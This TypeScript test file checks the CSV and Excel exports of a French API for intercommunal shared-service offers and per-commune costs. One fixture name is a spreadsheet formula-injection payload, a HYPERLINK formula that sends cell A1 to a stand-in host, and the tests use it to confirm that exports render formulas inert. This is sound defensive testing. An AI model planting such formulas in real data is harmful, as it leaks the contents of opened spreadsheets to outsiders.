import { randomUUID } from 'node:crypto'
import { beforeAll, describe, expect, it } from 'vitest'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { encodeGlobalID } from '@pothos/plugin-relay'
import { frenchText } from '@mutualis/domain'
import { db } from '@mutualis/api/db.ts'
import { createHttpHandler } from '@mutualis/api/http/handler.ts'
import { listenDuringTests } from '../fixtures/http-server.ts'
import { countSql, query } from '../fixtures/graphql.ts'
import { aCommune, aDomain, anAction, anOffer, anOrganisation, aSignedInUser, aTerritory, someCommunes, type BuiltTerritory } from '../fixtures/builders.ts'

// The offers and the per-commune impact (art. L5211-39-1 CGCT) as spreadsheets, read back with the
// same libraries an analyst's script would use, and compared with what the API answers.
const server = listenDuringTests(createHttpHandler(() => false))
const year = new Date().getUTCFullYear()
const suffix = randomUUID().slice(0, 8)
/** A name an editor could type that a spreadsheet would run as a formula. */
const formulaName = `=HYPERLINK("https://exemple.invalid/?d="&A1;"clic") ${suffix}`
const inSheet = `'${formulaName}`

const download = (path: string, headers: Record<string, string> = {}) => fetch(`${server.origin}${path}`, { headers })
async function csvRows(path: string, headers: Record<string, string> = {}) {
  const response = await download(path, headers)
  expect(response.status, await response.clone().text()).toBe(200)
  const [header, ...body] = parse(await response.text(), { bom: true, delimiter: ';' }) as string[][]
  return body.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]])))
}
async function xlsxRows(path: string) {
  const response = await download(path)
  expect(response.status).toBe(200)
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(await response.arrayBuffer())
  const cells: ExcelJS.Cell[][] = []
  workbook.worksheets[0].eachRow((row) => {
    const line: ExcelJS.Cell[] = []
    row.eachCell({ includeEmpty: true }, (cell) => line.push(cell))
    cells.push(line)
  })
  const [header, ...body] = cells
  for (const cell of cells.flat()) expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
  return body.map((row) => Object.fromEntries(header.map((name, i) => [String(name.value), row[i]?.value ?? null])))
}

const frenchDate = (iso: string | null) => (iso ? iso.split('-').reverse().join('/') : '')
const frenchNumber = (value: number | null) => (value === null ? '' : String(value).replace('.', ','))
const inert = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text)
const addMonths = (months: number) => {
  const date = new Date()
  return new Date(Date.UTC(date.getUTCFullYear(), date.getUTCMonth() + months, 1)).toISOString().slice(0, 10)
}

let territory: BuiltTerritory
let siren: string
let admin: Awaited<ReturnType<typeof aSignedInUser>>
let offerId: string
const renewalDate = addMonths(3)

async function saveOffer(input: Record<string, unknown>): Promise<string> {
  const result = await admin.client<any>(`mutation ($input: OfferInput!) { saveOffer(input: $input) { __typename ... on Offer { id } ... on UserError { message } } }`, { input })
  expect(result.data?.saveOffer.__typename, JSON.stringify(result)).toBe('Offer')
  return result.data!.saveOffer.id
}

async function setMember(commune: { id: string }, fields: Record<string, unknown>) {
  const result = await admin.client<any>(`mutation ($input: OfferMemberInput!) { setOfferMember(input: $input) { __typename ... on UserError { message } } }`, {
    input: { offerId, organisationId: encodeGlobalID('Commune', commune.id), ...fields },
  })
  expect(result.data?.setOfferMember.__typename, JSON.stringify(result)).toBe('OfferMember')
}

beforeAll(async () => {
  territory = await aTerritory({ name: 'Communauté de communes des Trois Rivières' })
  siren = territory.siren
  admin = await aSignedInUser(territory, { role: 'ADMIN' })
  const [chenove, talant, quetigny, longvic, ahuy] = await someCommunes(territory, ['Chenôve', 'Talant', 'Quetigny', 'Longvic', 'Ahuy'])
  offerId = await saveOffer({
    name: formulaName, kind: 'SERVICE_COMMUN', eligibility: 'ALL_COMMUNES', costKind: 'AMOUNT', annualAmount: 120000, costYear: year, proRataFirstYear: false,
    costKey: [{ basis: 'POPULATION', percent: 100 }], startDate: '2020-01-01', renewalDate, tacitRenewal: true, noticeMonths: 1,
    staff: [{ organisationId: encodeGlobalID('Commune', chenove.id), mode: 'MADE_AVAILABLE', fte: 0.5 }],
  })
  for (const commune of [chenove, talant, quetigny]) await setMember(commune, { state: 'MEMBER', since: '2020-01-01' })
  await setMember(longvic, { state: 'PLANNED', since: `${year + 1}-01-01` })

  // Offers of every kind of column: a domain, a provider, unnamed members, a legal basis, the deliberations, a free or an unknown cost, actions.
  const domain = await aDomain(territory, { name: 'Voirie et espaces publics' })
  const provider = await anOrganisation(territory, { kind: 'EPCI', name: 'Communauté de communes' })
  const winter = await anOffer(territory, {
    name: 'Viabilité hivernale', kind: 'CONVENTION_DE_GESTION', eligibility: 'CLOSED', domain, provider, unnamedMembers: 5, costKind: 'FREE',
    legalBasis: 'Article L5215-27 du CGCT : convention de gestion', joinDeliberations: JSON.stringify(['COMMUNE_COUNCIL', 'EPCI_COUNCIL']),
    startDate: '2019-11-01', endDate: '2031-10-31', tacitRenewal: false, noticeMonths: 6, members: [talant, ahuy], staff: [{ organisation: ahuy, fte: 1.25 }],
  })
  await anAction(territory, { title: 'Déneigement : « conventions » à réactualiser', offer: winter })
  await anAction(territory, { title: 'Salage des voies', offer: winter })
  await anOffer(territory, { name: 'Groupement de commandes de l’énergie', kind: 'GROUPEMENT_DE_COMMANDES', eligibility: 'LISTED', listed: [chenove, longvic], members: [chenove], renewalDate: '2027-01-01' })
  await anOffer(territory, { name: 'Centrale d’achat des fournitures', kind: 'CENTRALE_D_ACHAT', members: [{ organisation: quetigny, state: 'FORMER', until: '2024-12-31' }] })
  await anOffer(territory, { name: 'Service commun archivé', archivedAt: new Date(), members: [ahuy] })
  await anOffer(territory, { name: 'Instruction du droit des sols', domain, annualAmount: 45_000.5, costKey: [{ basis: 'FIXED', percent: 40 }, { basis: 'USAGE', percent: 60, unit: 'acte' }], members: [{ organisation: ahuy, usage: 12, fixedShare: 1 }] })
  await aCommune(territory, { name: 'Saint-Apollinaire' })
})

const offerFields = /* GraphQL */ `
  key name kindLabel statusLabel eligibilityLabel unnamedMembers domain { name } provider { name }
  members { state organisation { name } }
  terms { startDate endDate renewalDate tacitRenewal noticeMonths legalBasis joinDeliberationLabels }
  cost { annualAmount label key { label } } staff { fte } actions { title }
`

/** Every offer, page after page: a page of 200 with all these lists is over the query cost limit. */
async function allOffers(filter: Record<string, unknown> = {}) {
  const nodes: any[] = []
  let after: string | null = null
  do {
    const { offers }: any = await query(
      `query ($filter: OfferFilter, $after: String) { offers(territory: "${siren}", filter: $filter, first: 100, after: $after) { pageInfo { hasNextPage endCursor } edges { node { ${offerFields} } } } }`,
      { filter, after },
    )
    nodes.push(...offers.edges.map((edge: { node: any }) => edge.node))
    after = offers.pageInfo.hasNextPage ? offers.pageInfo.endCursor : null
  } while (after)
  return nodes
}

describe('offers export', () => {
  it('holds one CSV row per offer, equal to what the API answers', async () => {
    const nodes = await allOffers()
    const rows = await csvRows(`/export/offers.csv?territory=${siren}`)
    expect(rows).toHaveLength(nodes.length)
    expect(nodes.length).toBe(5)
    nodes.forEach((node: any, i: number) => {
      const members = node.members.filter((m: any) => m.state === 'MEMBER' || m.state === 'PLANNED').map((m: any) => m.organisation.name + (m.state === 'PLANNED' ? ' (prévue)' : ''))
      expect(rows[i], node.key).toEqual({
        Clé: node.key, Nom: inert(node.name), Type: node.kindLabel, Domaine: node.domain?.name ?? '', Porteur: node.provider?.name ?? '', Statut: node.statusLabel,
        Éligibilité: node.eligibilityLabel, Membres: members.join(', '), 'Membres non nommés': frenchNumber(node.unnamedMembers),
        Début: frenchDate(node.terms.startDate), Fin: frenchDate(node.terms.endDate), Reconduction: frenchDate(node.terms.renewalDate),
        'Reconduction tacite': node.terms.tacitRenewal === null ? '' : node.terms.tacitRenewal ? 'Oui' : 'Non', 'Préavis (mois)': frenchNumber(node.terms.noticeMonths),
        'Base légale': frenchText(node.terms.legalBasis ?? ''), 'Délibérations nécessaires': node.terms.joinDeliberationLabels.join('\n'),
        'Coût annuel (€)': frenchNumber(node.cost.annualAmount), Coût: node.cost.label, 'Clé de répartition': node.cost.key?.label ?? '',
        ETP: frenchNumber(node.staff.reduce((sum: number, s: any) => sum + s.fte, 0)), Actions: frenchText(node.actions.map((a: any) => a.title).join('\n')),
      })
    })
    const mine = rows.find((row) => row.Nom === inSheet)
    expect(mine).toMatchObject({ 'Coût annuel (€)': '120000', 'Clé de répartition': '100 % population', 'Reconduction tacite': 'Oui', ETP: '0,5', Reconduction: frenchDate(renewalDate) })
    expect(mine!.Membres).toMatch(/Chenôve/)
    expect(mine!.Membres).toContain('Longvic (prévue)')
  })

  it('is a workbook with amounts as numbers, dates as dates, and no formula', async () => {
    const rows = await xlsxRows(`/export/offers.xlsx?territory=${siren}`)
    const mine = rows.find((row) => row.Nom === inSheet)!
    expect(mine['Coût annuel (€)']).toBe(120000)
    expect(mine.Reconduction).toEqual(new Date(`${renewalDate}T00:00:00.000Z`))
    expect(mine.ETP).toBe(0.5)
    const unknown = rows.filter((row) => row.Coût === 'Coût non renseigné')
    expect(unknown.length).toBeGreaterThan(0)
    for (const row of unknown) expect(row['Coût annuel (€)']).toBeNull()
  })

  it('takes the API’s offer filter as query parameters', async () => {
    const nodes = await allOffers({ kind: ['GROUPEMENT_DE_COMMANDES', 'CENTRALE_D_ACHAT'] })
    const rows = await csvRows(`/export/offers.csv?territory=${siren}&kind=GROUPEMENT_DE_COMMANDES,CENTRALE_D_ACHAT`)
    expect(nodes.length).toBeGreaterThan(0)
    expect(rows.map((row) => row.Clé)).toEqual(nodes.map((node: any) => node.key))
    expect(nodes).toHaveLength(2)
    const bad = await download('/export/offers.csv?kind=MARCHE')
    expect(bad.status).toBe(400)
  })
})

const impactOf = (insee: string) =>
  query(`query ($insee: String!, $year: Int) { commune(inseeCode: $insee) { name inseeCode population impact(year: $year) {
    year byOffer { annualCost staffFte offer { name kindLabel } } ifJoined { annualCost staffFte offer { name kindLabel } }
  } } }`, { insee, year })

describe('impact export', () => {
  it('holds one row per commune and offer, members then what joining would add, as Commune.impact answers', async () => {
    const communes = await db.organisation.findMany({ where: { kind: 'COMMUNE', territoryId: territory.id }, orderBy: { searchName: 'asc' } })
    const expected: Array<Record<string, string>> = []
    for (const { inseeCode } of communes) {
      const { commune } = await impactOf(inseeCode!)
      const line = (situation: string) => (l: any) => ({
        Commune: commune.name, 'Code INSEE': commune.inseeCode, Population: frenchNumber(commune.population), Offre: inert(l.offer.name), Type: l.offer.kindLabel,
        Situation: situation, 'Coût annuel (€)': frenchNumber(l.annualCost), ETP: frenchNumber(l.staffFte), Année: String(year),
      })
      expected.push(...commune.impact.byOffer.map(line('Membre')), ...commune.impact.ifJoined.map(line('Peut rejoindre')))
    }
    const rows = await csvRows(`/export/impact.csv?territory=${siren}&year=${year}`)
    expect(rows).toEqual(expected)
    expect(rows.some((row) => row.Situation === 'Peut rejoindre')).toBe(true)
    // The default year is this one.
    expect(await csvRows(`/export/impact.csv?territory=${siren}`)).toEqual(expected)
  })

  it('shares an offer’s amount among its members: their rows add up to it, in CSV and in XLSX', async () => {
    const members = (await csvRows(`/export/impact.csv?territory=${siren}&year=${year}`)).filter((row) => row.Offre === inSheet && row.Situation === 'Membre')
    expect(members.map((row) => row.Commune).sort()).toEqual(['Chenôve', 'Longvic', 'Quetigny', 'Talant'])
    const cents = (euros: string) => Math.round(Number(euros.replace(',', '.')) * 100)
    expect(members.reduce((sum, row) => sum + cents(row['Coût annuel (€)']), 0)).toBe(12_000_000)
    expect(members.find((row) => row.Commune === 'Longvic')!['Coût annuel (€)']).toBe('0')
    expect(members.find((row) => row.Commune === 'Chenôve')!.ETP).toBe('0,5')

    const sheet = (await xlsxRows(`/export/impact.xlsx?territory=${siren}&year=${year}`)).filter((row) => row.Offre === inSheet && row.Situation === 'Membre')
    expect(sheet.reduce((sum, row) => sum + Math.round((row['Coût annuel (€)'] as number) * 100), 0)).toBe(12_000_000)
    expect(sheet.every((row) => typeof row.Population === 'number' && row.Année === year)).toBe(true)
  })

  it('refuses a year it cannot compute, in French', async () => {
    for (const [path, message] of [
      ['/export/impact.csv?year=1999', 'L’année doit être comprise entre 2000 et 2100.'],
      ['/export/impact.xlsx?year=2101', 'L’année doit être comprise entre 2000 et 2100.'],
      ['/export/impact.csv?year=deux-mille', '« year » attend une année sur quatre chiffres (AAAA)'],
      ['/export/impact.csv?annee=2026', 'Paramètre inconnu « annee ». Paramètres acceptés : territory, year.'],
    ]) {
      const response = await download(`${path}&territory=${siren}`)
      expect(response.status, path).toBe(400)
      expect(await response.text(), path).toContain(message)
    }
  })

  it('reads every commune’s impact in the same number of SQL statements however many offers and members there are', async () => {
    const communes = await db.organisation.findMany({ where: { territoryId: territory.id, kind: 'COMMUNE' } })
    const addOffers = (count: number) =>
      Promise.all(
        Array.from({ length: count }, (_, i) =>
          db.offer.create({
            data: {
              territoryId: territory.id, key: `test-${randomUUID()}`, name: `Offre de charge ${i} ${randomUUID().slice(0, 4)}`, kind: 'SERVICE_COMMUN', eligibility: 'ALL_COMMUNES',
              costKind: 'AMOUNT', annualCostCents: 1_000_000, costKey: JSON.stringify({ parts: [{ basis: 'POPULATION', percent: 100, unit: null }] }),
              members: { create: communes.slice(i, i + 8).map((c) => ({ organisationId: c.id, state: 'MEMBER' as const })) },
            },
          }),
        ),
      )
    // Each measured export is the first read after a write: the response cache cannot answer it.
    await addOffers(1)
    const before = await countSql(() => csvRows(`/export/impact.csv?territory=${siren}`))
    await addOffers(10)
    const after = await countSql(() => csvRows(`/export/impact.csv?territory=${siren}`))
    expect(after.count, after.statements.join('\n')).toBe(before.count)
    // The read check (1), the communes' page (1), the offers and their rules' inputs (7), pending requests (2), the offers' rows (1).
    expect(after.count, after.statements.join('\n')).toBeLessThanOrEqual(12)
    console.info(`impact export of a territory: ${after.count} SQL statements`)
  })
})

describe('access to the offers exports', () => {
  it('asks for the same sign-in as the API when the territory requires one', async () => {
    const analyst = await aSignedInUser(territory, { role: 'ANALYST' })
    const created = await analyst.client('mutation { createApiToken(name: "tableur") { ... on CreatedApiToken { secret } } }')
    const secret = created.data!.createApiToken.secret as string
    await admin.client('mutation { updateTerritorySettings(requireLoginToRead: true) { requireLoginToRead } }')
    try {
      for (const path of ['/export/offers.csv', '/export/offers.xlsx', '/export/impact.csv', '/export/impact.xlsx'].map((list) => `${list}?territory=${siren}`)) {
        const anonymous = await download(path)
        expect(anonymous.status, path).toBe(401)
        expect(await anonymous.text()).toMatch(/Connectez-vous/)
        expect((await download(path, { authorization: `Bearer ${secret}` })).status, path).toBe(200)
      }
    } finally {
      await admin.client('mutation { updateTerritorySettings(requireLoginToRead: false) { requireLoginToRead } }')
    }
  })

  it('asks which territory for the impact when several are loaded, as the matrix does', async () => {
    await aTerritory()
    for (const list of ['impact', 'matrix']) {
      const response = await download(`/export/${list}.csv`)
      expect(response.status, list).toBe(400)
      expect(await response.text()).toMatch(/Plusieurs territoires sont chargés : précisez territory/)
    }
    expect((await csvRows(`/export/impact.csv?territory=${siren}`)).length).toBeGreaterThan(0)
  })
})
